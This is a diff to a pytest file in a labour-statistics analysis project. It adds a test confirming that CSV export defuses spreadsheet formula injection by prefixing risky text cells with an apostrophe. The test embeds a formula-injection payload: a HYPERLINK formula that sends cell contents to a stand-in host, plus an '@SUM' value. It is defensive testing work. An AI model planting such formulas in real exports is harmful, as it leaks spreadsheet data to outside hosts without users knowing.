@@ -12,11 +12,12 @@ import math
 
 import pandas as pd
 import pytest
+from helpers import replace_raw
 
 from analysis import notebooks
 from analysis.errors import ParameterError
 from analysis.sections.explore import Explorer
-from analysis.tables import store
+from analysis.tables import dataset, store
 
 
 def latest(real) -> tuple[pd.DataFrame, pd.DataFrame]:
@@ -181,3 +182,28 @@ def test_notebook_area_is_validated_and_normalised(explore_spec, real):
         notebooks.validate(explore_spec, {"min_location_quotient": "1.5"}, real)
     with pytest.raises(ParameterError, match=r"^min_location_quotient -2\.0"):
         notebooks.validate(explore_spec, {"area": "26420", "min_location_quotient": "-2"}, real)
+
+
+def test_results_csv_text_never_becomes_a_formula(tmp_project):
+    """A metropolitan area titled like a formula (a data file can hold one) lands in results.csv as text: every
+    text cell starting with =, +, -, @, a tab or a carriage return is prefixed with ', numbers are left as they are."""
+    p = tmp_project
+    formula = '=HYPERLINK("http://example.invalid/?"&A1,"Houston")'
+
+    def edit(header, row):
+        if row[header.index("AREA")] == "26420":
+            row[header.index("AREA_TITLE")] = formula
+        return row
+
+    replace_raw(p, "bls-oews/2025/oews_metro_M2025.csv.gz", edit)
+    dataset.run(p)
+    e = Explorer(area="26420", paths=p)
+    assert e.area_info["area_title"] == formula  # the data keeps the title as published
+    e.result.loc[e.result.index[0], "title"] = "@SUM(A1:A9)"  # an occupation's title too: every text column
+    e.result.loc[e.result.index[1], "title"] = "\tTab"
+    got = pd.read_csv(io.StringIO(e.to_csv()), dtype={"soc_code": str, "area_code": str})
+    assert set(got["area_title"]) == {"'" + formula}
+    assert got["title"].iloc[0] == "'@SUM(A1:A9)" and got["title"].iloc[1] == "'\tTab"
+    text = [c for c in got.columns if got[c].dtype.kind == "O"]
+    assert not got[text].apply(lambda c: c.str.match(r"[=+\-@\t\r]")).any().any()
+    assert pd.api.types.is_float_dtype(got["change_percent"]) and (got["change_percent"] < 0).any()
